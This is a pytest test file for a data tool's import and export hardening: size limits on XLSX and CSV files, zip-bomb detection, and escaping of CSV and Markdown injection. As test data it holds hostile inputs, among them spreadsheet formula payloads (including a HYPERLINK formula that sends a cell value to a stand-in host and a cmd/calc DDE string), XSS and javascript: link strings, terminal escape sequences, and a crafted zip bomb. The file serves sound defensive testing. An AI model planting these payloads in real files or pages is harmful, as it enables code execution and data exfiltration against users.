"""Hardening of file reading and writing (issue 13): bounded reads, true problem
counts, CSV and Markdown injection."""

from __future__ import annotations

import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import polars as pl
import pytest
from typer.testing import CliRunner

from command_center import cli
from command_center.io import ImportFailed, read_table_file
from tests.conftest import use_db
from tests.fixtures_recruiting import rdb, recruiting_host  # noqa: F401

runner = CliRunner()


@pytest.fixture
def fresh(empty_db, monkeypatch, app_env):
    use_db(monkeypatch, empty_db)
    cli.build_app()
    return empty_db


# -- problem counts ---------------------------------------------------------------


def test_cli_prints_the_true_number_of_problems(fresh, tmp_path) -> None:
    loops = 20_000
    path = tmp_path / "people.csv"
    path.write_text(
        "person_id,name,level,manager_id,region,hire_date,status\n"
        + "".join(
            f"{2 * i + 1},A,manager,{2 * i + 2},N,2020-01-01,active\n"
            f"{2 * i + 2},B,manager,{2 * i + 1},N,2020-01-01,active\n"
            for i in range(loops)
        ),
        encoding="utf-8",
    )
    result = runner.invoke(cli.app, ["import", "people", str(path)])
    assert result.exit_code == 1
    assert f"rejected with {2 * loops} problems" in result.output
    assert f"… and {2 * loops - 200} more" in result.output


# -- bounded reading --------------------------------------------------------------

_NS = "http://schemas.openxmlformats.org/"
_PARTS = {
    "[Content_Types].xml": (
        f'<Types xmlns="{_NS}package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    ),
    "_rels/.rels": (
        f'<Relationships xmlns="{_NS}package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_NS}officeDocument/2006/relationships/'
        'officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        f'<workbook xmlns="{_NS}spreadsheetml/2006/main" '
        f'xmlns:r="{_NS}officeDocument/2006/relationships"><sheets>'
        '<sheet name="data" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        f'<Relationships xmlns="{_NS}package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_NS}officeDocument/2006/relationships/'
        'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    ),
}
SHEET = "xl/worksheets/sheet1.xml"


def cell(ref: str, value: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'


def workbook(path: Path, body: str, dimension: str | None = None, tail: str = "") -> Path:
    """A minimal XLSX, written by hand: what a hostile file can claim."""
    declared = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        f'<worksheet xmlns="{_NS}spreadsheetml/2006/main">{declared}'
        f"<sheetData>{body}</sheetData>{tail}</worksheet>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in _PARTS.items():
            zf.writestr(name, '<?xml version="1.0" encoding="UTF-8"?>' + text)
        zf.writestr(SHEET, '<?xml version="1.0" encoding="UTF-8"?>' + sheet)
    return path


def refused(path: Path) -> list[str]:
    with pytest.raises(ImportFailed) as info:
        read_table_file(path)
    return info.value.errors


HEADER_ROW = f'<row r="1">{cell("A1", "person_id")}{cell("B1", "name")}</row>'


def test_a_small_workbook_is_read(tmp_path) -> None:
    path = workbook(
        tmp_path / "ok.xlsx",
        HEADER_ROW + f'<row r="2">{cell("A2", "1")}{cell("B2", "Ann")}</row>',
        "A1:B2",
    )
    assert read_table_file(path).to_dicts() == [{"person_id": "1", "name": "Ann"}]


def test_a_huge_declared_dimension_is_refused(tmp_path) -> None:
    path = workbook(tmp_path / "dim.xlsx", HEADER_ROW, "A1:XFD1048576")
    assert refused(path) == [
        f"{path}: the sheet's dimension A1:XFD1048576 spans 16,384 columns (at most 256)"
    ]


def test_a_huge_cell_range_is_refused(tmp_path) -> None:
    far = f'<row r="1048576">{cell("XFD1048576", "x")}</row>'
    path = workbook(tmp_path / "far.xlsx", HEADER_ROW + far)
    assert refused(path) == [
        f"{path}: the sheet's cells A1:XFD1048576 spans 16,384 columns (at most 256)"
    ]


def test_a_mostly_empty_cell_range_is_refused(tmp_path) -> None:
    """Within the limits, one far cell still makes the reader allocate its whole
    range (a 1.5 KB file cost ~1 GB): a large range must hold its cells."""
    far = f'<row r="1048576">{cell("S1048576", "x")}</row>'
    path = workbook(tmp_path / "sparse.xlsx", HEADER_ROW + far)
    assert path.stat().st_size < 2000
    assert refused(path) == [
        f"{path}: the sheet's cells A1:S1048576 span 19,922,944 cells but only 3 are written "
        "(delete the stray cells far from the data)"
    ]
    near = f'<row r="1000">{cell("Z1000", "x")}</row>'  # a small range may be sparse
    assert read_table_file(workbook(tmp_path / "near.xlsx", HEADER_ROW + near)).height == 1


def test_hostile_workbooks_do_not_take_the_process_down(tmp_path) -> None:
    """The files that aborted the reader (a 512 GiB allocation) are refused in a
    child process capped at 4 GiB of address space, which exits normally."""
    far = f'<row r="1048576">{cell("XFD1048576", "x")}</row>'
    files = [
        workbook(tmp_path / "dim.xlsx", HEADER_ROW, "A1:XFD1048576"),
        workbook(tmp_path / "far.xlsx", HEADER_ROW + far),
    ]
    script = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))\n"
        "from command_center.io import ImportFailed, read_table_file\n"
        "for name in sys.argv[1:]:\n"
        "    try:\n"
        "        read_table_file(name)\n"
        "    except ImportFailed as exc:\n"
        "        print(exc.errors[0])\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, *map(str, files)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    lines = done.stdout.splitlines()
    assert [line.split(": ", 1)[0] for line in lines] == [str(f) for f in files]
    assert all("spans 16,384 columns (at most 256)" in line for line in lines)


def test_zip_bomb_is_refused(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("COMMAND_CENTER_MAX_UNZIPPED_MB", "10")
    # 50 MB of blanks inside the sheet compress to ~50 KB.
    path = workbook(tmp_path / "bomb.xlsx", HEADER_ROW, "A1:B1", tail=" " * (50 << 20))
    assert path.stat().st_size < 100_000
    assert refused(path) == [f"{path}: the workbook unpacks to more than 10 MB (a zip bomb?)"]
    # The same bomb whose headers claim 1,000 bytes: the reader's CRC check catches it.
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(SHEET)
    struct.pack_into("<I", data, info.header_offset + 22, 1000)  # local header
    central = data.find(b"PK\x01\x02")
    while central >= 0:
        size = struct.unpack_from("<H", data, central + 28)[0]
        if bytes(data[central + 46 : central + 46 + size]) == SHEET.encode():
            struct.pack_into("<I", data, central + 24, 1000)
        central = data.find(b"PK\x01\x02", central + 4)
    liar = tmp_path / "liar.xlsx"
    liar.write_bytes(bytes(data))
    (error,) = refused(liar)
    assert error.startswith(f"{liar}: not a readable .xlsx workbook (Bad CRC-32")


def test_limits_on_rows_cells_and_size_are_configurable(tmp_path, monkeypatch) -> None:
    rows = "".join(
        f'<row r="{i}">{cell(f"A{i}", "1")}{cell(f"B{i}", "x")}</row>' for i in range(2, 13)
    )
    path = workbook(tmp_path / "rows.xlsx", HEADER_ROW + rows, "A1:B12")
    assert read_table_file(path).height == 11
    monkeypatch.setenv("COMMAND_CENTER_MAX_ROWS", "10")
    assert refused(path) == [
        f"{path}: the sheet's dimension A1:B12 spans 11 data rows (at most 10)"
    ]
    undeclared = workbook(tmp_path / "undeclared.xlsx", HEADER_ROW + rows)
    assert refused(undeclared) == [f"{undeclared}: the sheet has 11 data rows (at most 10)"]
    csv = tmp_path / "rows.csv"
    csv.write_text("a,b\n" + "1,x\n" * 11, encoding="utf-8")
    assert refused(csv) == [f"{csv}: the file spans 11 data rows (at most 10)"]
    monkeypatch.delenv("COMMAND_CENTER_MAX_ROWS")
    monkeypatch.setenv("COMMAND_CENTER_MAX_CELLS", "20")
    assert refused(path) == [
        f"{path}: the sheet's dimension A1:B12 spans 12 rows x 2 columns = 24 cells (at most 20)"
    ]
    assert refused(csv) == [f"{csv}: the file spans 12 rows x 2 columns = 24 cells (at most 20)"]
    monkeypatch.delenv("COMMAND_CENTER_MAX_CELLS")
    monkeypatch.setenv("COMMAND_CENTER_MAX_FILE_MB", "1")
    big = tmp_path / "big.csv"
    big.write_text("a,b\n" + "1,x\n" * 300_000, encoding="utf-8")
    assert refused(big) == [f"{big}: the file is 1.1 MB (at most 1 MB)"]


def test_a_csv_with_too_many_columns_is_refused_before_parsing(tmp_path) -> None:
    path = tmp_path / "wide.csv"
    path.write_text(",".join(f"c{i}" for i in range(100_000)) + "\n1\n", encoding="utf-8")
    assert refused(path) == [f"{path}: the file spans 100,000 columns (at most 256)"]
    quoted = tmp_path / "quoted.csv"
    quoted.write_text('"' + "," * 300 + '",b\n1,2\n', encoding="utf-8")
    assert read_table_file(quoted).columns == ["," * 300, "b"]


# -- CSV and Markdown injection ---------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(A1)"]


def test_csv_safe_neutralises_text_and_keeps_numbers() -> None:
    from command_center.io import csv_safe

    names = [*HOSTILE, "+1 555", "-Bob", "\tx", "\rx", "Ann", "-5", "+1.5e3", None]
    frame = pl.DataFrame({"name": names, "revenue": [-5.5] * len(names), "n": [-1] * len(names)})
    safe = csv_safe(frame)
    assert safe["name"].to_list() == [
        *(f"'{v}" for v in HOSTILE),
        "'+1 555",
        "'-Bob",
        "'\tx",
        "'\rx",
        "Ann",
        "-5",
        "+1.5e3",
        None,
    ]
    assert safe.select("revenue", "n").equals(frame.select("revenue", "n"))
    categorical = csv_safe(pl.DataFrame({"c": pl.Series(["=1+1", "a"], dtype=pl.Categorical)}))
    assert categorical["c"].to_list() == ["'=1+1", "a"]


def test_csv_shows_control_characters_and_keeps_layout() -> None:
    """A value a form or an older version stored with escapes prints inert; tab and
    line breaks stay (CSV quotes them)."""
    from command_center.io import csv_safe, csv_text, printable

    names = ["\x1b]0;pwned\x07Eve", "a\u202eb\x00", "two\nlines\tand tab", "\x1b=cmd", "Ann", None]
    frame = pl.DataFrame({"name": names, "n": range(len(names))})
    assert csv_safe(frame)["name"].to_list() == [
        "<U+001B>]0;pwned<U+0007>Eve",
        "a<U+202E>b<U+0000>",
        "two\nlines\tand tab",
        "<U+001B>=cmd",
        "Ann",
        None,
    ]
    assert "\x1b" not in csv_text(frame) and "\x00" not in csv_text(frame)
    assert printable(frame)["name"][2] == "two<U+000A>lines<U+0009>and tab"  # tables: one line
    clean = pl.DataFrame({"name": ["Ann", "名字"]})
    assert printable(clean) is clean  # nothing to show: the frame as it was


def test_csv_exports_are_neutralised(tmp_path) -> None:
    from command_center.io import write_table_file

    frame = pl.DataFrame({"name": HOSTILE, "revenue": [-5.0, 1.0, 2.0]})
    write_table_file(frame, tmp_path / "out.csv")
    written = pl.read_csv(tmp_path / "out.csv", infer_schema=False)
    assert written["name"].to_list() == [f"'{v}" for v in HOSTILE]
    assert written["revenue"].to_list() == ["-5.0", "1.0", "2.0"]


def test_csv_text_for_stdout_and_downloads_is_neutralised() -> None:
    from command_center.io import csv_text

    frame = pl.DataFrame({"name": ["=cmd|' /C calc'!A0"], "value": [-3.0]})
    assert csv_text(frame).splitlines() == ["name,value", "'=cmd|' /C calc'!A0,-3.0"]


def test_imported_resume_url_must_be_http(rdb, tmp_path) -> None:  # noqa: F811
    from command_center.io import run_import

    host = recruiting_host()
    openings = tmp_path / "o.csv"
    openings.write_text(
        "opening_id,title,level,region,headcount,opened_on,closed_on,hiring_manager_id,"
        "channels,description,pay_min,pay_max\n"
        "1,Rep,rep,,2,2026-01-05,,3,company_site,,,\n",
        encoding="utf-8",
    )
    run_import(rdb.engine, host, "openings", openings)
    path = tmp_path / "c.csv"
    path.write_text(
        "candidate_id,opening_id,name,phone,email,source,referrer_id,applied_on,resume_url,stage\n"
        "1,1,A,138,,job_board,,2026-01-20,javascript:alert(1),\n"
        "2,1,B,139,,job_board,,2026-01-20, https://hr.example.com/r/2.pdf,\n"
        "3,1,C,137,,job_board,,2026-01-20,,\n",
        encoding="utf-8",
    )
    with pytest.raises(ImportFailed) as info:
        run_import(rdb.engine, host, "candidates", path)
    assert info.value.errors == [f"{path}:2: resume_url: not an http:// or https:// link"]


def test_markdown_packs_escape_html_and_links() -> None:
    from plugins.team_events.io import documents as export

    hostile = "<img src=x onerror=alert(1)> [click](javascript:alert(1)) a|b\nc & d"
    assert export.md(hostile) == (
        "&lt;img src=x onerror=alert(1)&gt; \\[click\\](javascript:alert(1)) a\\|b c &amp; d"
    )
    table = export._md_table(pl.DataFrame({"Name": [hostile], "Revenue": [-5.0]}))
    assert "<img" not in table and "&lt;img" in table and "| -5 |" in table
